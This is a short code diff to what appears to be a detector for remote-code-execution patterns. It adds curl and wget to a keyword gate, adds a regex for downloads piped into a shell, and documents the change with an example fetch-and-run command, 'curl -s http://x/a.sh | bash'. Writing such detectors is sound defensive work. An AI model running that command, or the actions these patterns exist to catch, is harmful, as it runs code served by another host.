@@ -23,14 +23,17 @@ __all__ = ["remote_code"]
 
 _WINDOW = 8_000
 _MAX_STRINGS = 200
-_GATE = ("exec", "process", "system", "popen", "/bin/", "spawn", "shell")
+_GATE = ("exec", "process", "system", "popen", "/bin/", "spawn", "shell", "curl", "wget")
 _SPAWN = re.compile(
     r"(?i)process\.start\s*\(|runtime\.getruntime\(\)\s*\.exec|\.execute\(\s*\)|"
     r"processbuilder\s*\(|\bos\.(?:system|popen|exec\w*)\s*\(|\bsubprocess\.\w+\s*\(|"
     r"child_process|\b(?:shell_exec|passthru|popen|proc_open)\s*\(|"
     r"\b(?:system|exec)\s*\(\s*[\"'`]|[\"'](?:/bin/|/usr/bin/)?(?:ba|z)?sh[\"']\s*,\s*[\"']-c|"
-    r"\bspawn\s*\(\s*[\"'](?:/bin/)?(?:ba)?sh"
+    r"\bspawn\s*\(\s*[\"'](?:/bin/)?(?:ba)?sh|"
+    r"\b(?:curl|wget)\b[^|\n]{0,300}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b"
 )
+"""Code that starts processes; a script's download piped into a shell
+(``curl -s http://x/a.sh | bash``) runs what another host serves."""
 _EVALUATOR = re.compile(
     r"(?i)/(?:eval|evaluate|script|scripttext|scripts/run|console|exec|execute|run[-_]?script|"
     r"groovy|repl)(?:/|$)"
